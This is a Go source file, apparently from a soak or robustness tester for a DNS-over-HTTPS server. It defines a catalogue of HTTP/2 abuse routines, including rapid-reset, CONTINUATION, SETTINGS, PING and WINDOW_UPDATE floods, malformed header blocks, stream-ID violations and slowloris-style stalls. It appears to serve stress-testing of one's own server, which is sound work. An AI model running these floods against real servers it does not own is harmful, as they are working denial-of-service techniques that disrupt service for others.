package soak

import (
	"bytes"
	"context"
	"crypto/tls"
	"encoding/base64"
	"io"
	"time"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
)

// h2conn is a connection of HTTP/2 in the hands of somebody who knows no rules.
type h2conn struct {
	*tls.Conn
	*http2.Framer
	t    *Target
	next uint32 // stream
}

// http2 opens n connections and has something done to each, once the prefaces are exchanged.
func (t *Target) http2(ctx context.Context, n int, settings []http2.Setting, do func(*h2conn)) {
	t.eachTLS(ctx, n, t.DoH, "h2", func(c *tls.Conn) {
		if h := t.newH2(c, settings...); h != nil {
			do(h)
		}
	})
}

func (t *Target) newH2(c *tls.Conn, settings ...http2.Setting) *h2conn {
	if _, err := io.WriteString(c, http2.ClientPreface); err != nil {
		return nil
	}
	h := &h2conn{c, http2.NewFramer(c, c), t, 1}
	h.AllowIllegalWrites = true
	if h.WriteSettings(settings...) != nil {
		return nil
	}
	return h
}

// headers are those of a request, packed without a table.
func (h *h2conn) headers(method, path string, more ...string) []byte {
	var block bytes.Buffer
	enc := hpack.NewEncoder(&block)
	fields := append([]string{":method", method, ":scheme", "https", ":authority", h.t.ServerName, ":path", path}, more...)
	for i := 0; i < len(fields); i += 2 {
		enc.WriteField(hpack.HeaderField{Name: fields[i], Value: fields[i+1]}) //nolint:errcheck // memory
	}
	return block.Bytes()
}

// get is the header of a good request.
func (h *h2conn) get() []byte {
	raw, err := h.t.Known[0].Message().Pack()
	if err != nil {
		return nil
	}
	return h.headers("GET", h.t.Path+"?dns="+base64.RawURLEncoding.EncodeToString(raw), "accept", "application/dns-message")
}

// open sends the header of a request on a new stream.
func (h *h2conn) open(block []byte, end bool) (uint32, error) {
	id := h.next
	h.next += 2
	return id, h.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: block, EndStream: end, EndHeaders: true})
}

// flood repeats something until the server has had enough, or n times.
func (h *h2conn) flood(n int, do func(i int) error) {
	go io.Copy(io.Discard, h.Conn) //nolint:errcheck // it ends with the connection
	for i := range n {
		h.SetWriteDeadline(time.Now().Add(2 * time.Second)) //nolint:errcheck // the write says so
		if do(i) != nil {
			return
		}
	}
}

// floods is an abuse that repeats something n times on a connection.
func floods(n int, do func(h *h2conn, i int) error) Abuse {
	return func(ctx context.Context, t *Target) {
		t.http2(ctx, 1, nil, func(h *h2conn) { h.flood(n, func(i int) error { return do(h, i) }) })
	}
}

// stalls is an abuse that begins something and leaves it at that.
func stalls(settings []http2.Setting, do func(h *h2conn)) Abuse {
	return func(ctx context.Context, t *Target) {
		t.http2(ctx, 4, settings, func(h *h2conn) {
			do(h)
			untilClosed(h.Conn)
		})
	}
}

// post is the header of a request that is going to have a body.
func (h *h2conn) post() []byte {
	return h.headers("POST", h.t.Path, "content-type", "application/dns-message")
}

// http2Abuses are floods of frames.
func http2Abuses() map[string]Abuse {
	return map[string]Abuse{
		"h2: rapid reset": floods(5000, func(h *h2conn, _ int) error {
			id, err := h.open(h.get(), true)
			if err == nil {
				err = h.WriteRSTStream(id, http2.ErrCodeCancel)
			}
			return err
		}),
		"h2: CONTINUATION flood": floods(5000, func(h *h2conn, i int) error {
			if i == 0 {
				return h.WriteHeaders(http2.HeadersFrameParam{StreamID: 1, BlockFragment: h.get()})
			}
			return h.WriteContinuation(1, false, noise(200))
		}),
		"h2: empty CONTINUATION flood": floods(20000, func(h *h2conn, i int) error {
			if i == 0 {
				return h.WriteHeaders(http2.HeadersFrameParam{StreamID: 1, BlockFragment: h.get()})
			}
			return h.WriteContinuation(1, false, nil)
		}),
		"h2: SETTINGS flood": floods(20000, func(h *h2conn, i int) error {
			return h.WriteSettings(http2.Setting{ID: http2.SettingInitialWindowSize, Val: uint32(i)})
		}),
		"h2: PING flood":          floods(20000, func(h *h2conn, i int) error { return h.WritePing(false, [8]byte{byte(i)}) }),
		"h2: PRIORITY flood":      floods(20000, func(h *h2conn, i int) error { return h.WritePriority(uint32(2*i+1), http2.PriorityParam{}) }),
		"h2: WINDOW_UPDATE flood": floods(20000, func(h *h2conn, _ int) error { return h.WriteWindowUpdate(0, 1) }),
		"h2: unknown frames":      floods(20000, func(h *h2conn, _ int) error { return h.WriteRawFrame(0xbb, 0, 0, nil) }),
		"h2: window overflow":     floods(3, func(h *h2conn, _ int) error { return h.WriteWindowUpdate(0, 1<<31-1) }),
		"h2: a window update of 0": floods(1, func(h *h2conn, _ int) error {
			return h.WriteRawFrame(http2.FrameWindowUpdate, 0, 0, []byte{0, 0, 0, 0})
		}),
		"h2: empty DATA flood": floods(20000, func(h *h2conn, i int) error {
			if i == 0 {
				_, err := h.open(h.post(), false)
				return err
			}
			return h.WriteData(1, false, nil)
		}),
		"h2: a body without end": floods(200, func(h *h2conn, i int) error {
			if i == 0 {
				_, err := h.open(h.post(), false)
				return err
			}
			return h.WriteData(1, false, make([]byte, 1000))
		}),
		"h2: a header without end": floods(100, func(h *h2conn, i int) error {
			id, err := h.open(h.headers("GET", "/"+string(bytes.Repeat([]byte("a"), 15000))), true)
			_ = id
			return err
		}),
		"h2: a frame too long": floods(1, func(h *h2conn, _ int) error { return h.WriteData(1, false, make([]byte, 1<<20)) }),
		"h2: a broken table":   floods(3, func(h *h2conn, _ int) error { _, err := h.open(noise(200), true); return err }),
		"h2: streams backwards": floods(3, func(h *h2conn, i int) error {
			h.next = uint32(99 - 10*i)
			_, err := h.open(h.get(), true)
			return err
		}),
		"h2: more streams than allowed": floods(2000, func(h *h2conn, _ int) error {
			_, err := h.open(h.post(), false)
			return err
		}),
	}
}

// http2Stalls are requests that come to no end.
func http2Stalls() map[string]Abuse {
	return map[string]Abuse{
		"h2: zero windows": stalls([]http2.Setting{{ID: http2.SettingInitialWindowSize, Val: 0}}, func(h *h2conn) {
			for range 60 {
				h.open(h.get(), true) //nolint:errcheck // see storm.go, as all below
			}
		}),
		"h2: half a header": stalls(nil, func(h *h2conn) { h.Write([]byte{0, 1, 0, 1, 5, 0, 0, 0, 1, 0x82}) }),
		"h2: half a body": stalls(nil, func(h *h2conn) {
			h.open(h.post(), false)
			h.WriteData(1, false, make([]byte, 10))
		}),
		"h2: half a frame of a body": stalls(nil, func(h *h2conn) {
			h.open(h.post(), false)
			h.Write([]byte{0, 0, 100, 0, 1, 0, 0, 0, 1, 7})
		}),
		"h2: reads nothing": func(ctx context.Context, t *Target) {
			t.http2(ctx, 1, []http2.Setting{{ID: http2.SettingInitialWindowSize, Val: 1<<31 - 1}}, func(h *h2conn) {
				h.WriteWindowUpdate(0, 1<<31-1-65535)
				for range 5000 {
					h.SetWriteDeadline(time.Now().Add(2 * time.Second))
					if _, err := h.open(h.get(), true); err != nil {
						return
					}
				}
				<-ctx.Done()
			})
		},
		"h2: no preface": func(ctx context.Context, t *Target) {
			t.eachTLS(ctx, 4, t.DoH, "h2", func(c *tls.Conn) {
				c.Write(noise(2000))
				untilClosed(c)
			})
		},
		"h2: half a preface": func(ctx context.Context, t *Target) {
			t.eachTLS(ctx, 4, t.DoH, "h2", func(c *tls.Conn) {
				io.WriteString(c, http2.ClientPreface[:10])
				untilClosed(c)
			})
		},
		"h2: resets after asking": func(ctx context.Context, t *Target) {
			t.http2(ctx, 5, nil, func(h *h2conn) {
				for range 20 {
					h.open(h.get(), true)
				}
				reset(h.NetConn())
			})
		},
	}
}
